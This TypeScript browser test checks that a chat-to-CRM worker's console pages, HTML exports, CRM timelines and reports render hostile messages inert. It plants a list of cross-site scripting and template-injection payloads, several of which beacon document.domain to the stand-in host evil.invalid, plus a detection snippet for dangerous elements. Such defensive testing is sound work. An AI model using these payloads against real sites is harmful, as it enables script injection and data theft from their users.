import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { reportHtml } from '../../src/reports/report-html.ts';
import { openZip } from '../../src/sources/chat-export/zip.ts';
import { openBrowser } from '../support/browser.ts';
import { daily } from '../support/operations.ts';
import { describeWith } from '../support/require.ts';
import { settingsFor, startCrms, type Crms } from '../support/spine.ts';
import { makeTempFolder, type TempFolder } from '../support/temp.ts';
import { appSecret, envelope, personNumber } from '../support/traffic.ts';
import {
  postWebhook,
  startWorker,
  untilDirectoryPulled,
  untilTotals,
  type WorkerProcess,
} from '../support/worker.ts';

const act = "top.owned=1;new Image().src='https://evil.invalid/'+document.domain;alert(1)";
const zoo = [
  `<script>${act}</script>`,
  `"><img src=x onerror="${act}">`,
  `'><svg/onload="${act}">`,
  `</script></title></style></textarea><script>${act}</script>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe><iframe src="javascript:${act}"></iframe>`,
  `<a href="javascript:${act}">look</a> [look](javascript:${act}) javascript:${act}`,
  '<style>@import "https://evil.invalid/a.css";*{background:url(https://evil.invalid/b)}</style>',
  '![look](https://evil.invalid/c.png) <img src="https://evil.invalid/d.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/">',
  `&lt;script&gt;${act}&lt;/script&gt; &#60;img src=x onerror=${act}&#62; \\u003cscript\\u003e`,
  `<noscript><p title="</noscript><img src=x onerror='${act}'>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${act}"></style></mglyph></table></mtext></math>`,
  `＜script＞${act}＜/script＞ <scr\u0000ipt>${act}</scr\u0000ipt> <!--><img src=x onerror="${act}">`,
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% include 'x' %} <%= 1 %>",
  '<form action="https://evil.invalid/"><button autofocus onfocus="alert(1)">x</button></form>',
];
const said = zoo.join('\n');
/** Short enough for names. */
const name = `<img src=x onerror="top.owned=1;alert(1)"><script>alert(2)</script>"'`;

const at = String(Math.floor(Date.now() / 1_000) - 60);
const from = personNumber(0).slice(1);
const contacts = [{ profile: { name }, wa_id: from }];
const received = (id: string, item: object) =>
  envelope('messages', { contacts, messages: [{ from, id, timestamp: at, ...item }] });

const webhooks = [
  received('wamid.text', { type: 'text', text: { body: said } }),
  received('wamid.file', {
    type: 'document',
    document: { id: '1', mime_type: 'text/html', filename: `${name}.svg`, caption: said },
  }),
  received('wamid.place', { type: 'location', location: { latitude: 1, longitude: 2, name, address: said } }),
  received('wamid.card', {
    type: 'contacts',
    contacts: [
      { name: { formatted_name: name }, phones: [{ phone: name }], urls: [{ url: `javascript:${act}` }] },
    ],
  }),
  received('wamid.react', { type: 'reaction', reaction: { message_id: 'wamid.text', emoji: name } }),
  received('wamid.edit', {
    type: 'edit',
    edit: { original_message_id: 'wamid.text', message: { type: 'text', text: { body: `${said} again` } } },
  }),
  received('wamid.group', { type: 'text', text: { body: said }, group_id: name }),
];

describeWith('chromium', 'what strangers wrote, where people look at it', () => {
  let folder: TempFolder;
  let crms: Crms;
  let worker: WorkerProcess;
  let browser: Browser;

  beforeAll(async () => {
    folder = makeTempFolder('stored-script');
    crms = await startCrms(0);
    crms.salesforce.addContact({ FirstName: name.slice(0, 40), LastName: name, Phone: `+${from}` });
    crms.hubspot.addContact({ firstname: name, lastname: name, phone: `+${from}` });
    worker = await startWorker({ folder: folder.path, settings: settingsFor(crms) });
    await untilDirectoryPulled(worker.url, ['sales', 'marketing']);
    for (const body of webhooks) expect(await postWebhook(worker.url, 'support', body, appSecret)).toBe(200);
    await untilTotals(worker.url, ({ pending, received: all }) => pending === 0 && all >= 5);
    browser = await openBrowser();
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await worker?.stop();
    await crms?.close();
    folder?.remove();
  }, 60_000);

  /** The export's pages of chats, unpacked. */
  async function exported(): Promise<string[]> {
    const answer = await fetch(`${worker.url}/api/export/records.zip?all=true&formats=html`);
    const path = join(folder.path, 'records.zip');
    writeFileSync(path, Buffer.from(await answer.arrayBuffer()));
    const zip = await openZip(path);
    for (const entry of zip.entries.keys()) {
      const place = join(folder.path, 'export', entry);
      mkdirSync(dirname(place), { recursive: true });
      writeFileSync(place, await buffer(await zip.open(entry)));
    }
    zip.close();
    return [...zip.entries.keys()].filter((entry) => entry.endsWith('.html'));
  }

  /** What would run, or lead elsewhere, of what stands in the page now. */
  const dangers = `[...document.querySelectorAll('*')].flatMap((one) => [
      ...(/^(iframe|object|embed|base|math|form|noscript|svg:script)$/i.test(one.localName) ? [one.outerHTML] : []),
      ...(one.localName === 'meta' && /refresh/i.test(one.httpEquiv) ? [one.outerHTML] : []),
      ...(one.localName === 'script' && !/^https?:..127/.test(one.src) ? [one.outerHTML] : []),
      ...[...one.attributes].filter(({ name, value }) => /^on/i.test(name) || /^\\s*javascript:|evil\\.invalid\\/./i.test(value) && /^(href|src|action|srcdoc|style|formaction)$/.test(name)).map(({ name, value }) => name + '=' + value),
    ]).concat(top.owned ? ['owned'] : [])`;

  test('runs nothing, asks nobody and opens nothing, also without the pages’ own policies', async () => {
    // What keeps the pages safe is how they are made; the policies are the second wall.
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    page.setDefaultTimeout(30_000);
    const troubles: string[] = [];
    context.on('dialog', (dialog) => {
      troubles.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    context.on('request', (request) => {
      const url = request.url();
      if (!/^(http:\/\/127\.0\.0\.1:|file:|data:|about:)/.test(url)) troubles.push(url);
    });
    context.on('page', (other) => {
      if (other !== page) troubles.push('a window opened');
    });
    const look = async (where: string, sees: string | RegExp) => {
      expect([where, (await visible(page)).match(sees)?.length ?? 0]).toEqual([where, 1]);
      expect([where, await page.evaluate(dangers)]).toEqual([where, []]);
    };
    const script = /<script>top\.owned/;

    const { items } = (await (await fetch(`${worker.url}/api/conversations`)).json()) as {
      items: { id: string }[];
    };
    expect(items.length).toBeGreaterThan(0);
    for (const { id } of items) {
      await page.goto(`${worker.url}/conversations/${id}`);
      await page.getByText('<script>top.owned').first().waitFor();
      await look('the chat in the console', script);
    }
    for (const path of ['/conversations', '/waiting/parked', '/audit', '/']) {
      await page.goto(`${worker.url}${path}`);
      await page.getByRole('main').waitFor();
      await look(path, /\S/);
    }
    const pages = await exported();
    expect(pages.length).toBeGreaterThan(1);
    for (const path of pages) {
      await page.goto(pathToFileURL(join(folder.path, 'export', path)).href);
      await look(path, path.startsWith('conversations/') ? script : /\S/);
    }
    for (const { url, id } of [
      { url: crms.salesforce.url, id: String(crms.salesforce.rows('Contact')[0]?.['Id']) },
      { url: crms.hubspot.url, id: String(crms.hubspot.records('contacts')[0]?.id) },
    ]) {
      await page.goto(`${url}/timeline`);
      await look('the sandbox', /<img src=x/);
      await page.goto(`${url}/timeline/${id}`);
      await look('the timeline', script);
    }
    // As HubSpot shows it: its body is HTML.
    for (const { values } of crms.hubspot.records('communications')) {
      await page.setContent(`<main>${String(values['hs_communication_body'])}</main>`);
      await look('the body in HubSpot', /\S/);
    }
    const poison = (value: unknown): unknown =>
      typeof value === 'object' && value !== null
        ? Object.assign(
            Array.isArray(value) ? [] : {},
            Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, poison(inner)])),
          )
        : typeof value === 'string' && !/^\d{4}-|^[a-z]+$|^\+/.test(value)
          ? name
          : value;
    const { report, number, hash } = daily;
    await page.setContent(reportHtml({ report: poison(report) as typeof report, number, hash, body: '' }));
    await look('the report', /<script>alert/);
    expect(troubles).toEqual([]);
    // The same eyes see what does run.
    await page.setContent(`<main>${zoo[1] ?? ''}</main>`);
    await page.waitForFunction('top.owned === 1');
    expect(await page.evaluate(dangers)).toEqual(expect.arrayContaining(['owned']));
    expect(troubles).toEqual(expect.arrayContaining([expect.stringMatching('evil'), 'dialog 1']));
    await context.close();
  }, 120_000);
});

function visible(page: Page): Promise<string> {
  return page.evaluate('document.body.innerText');
}
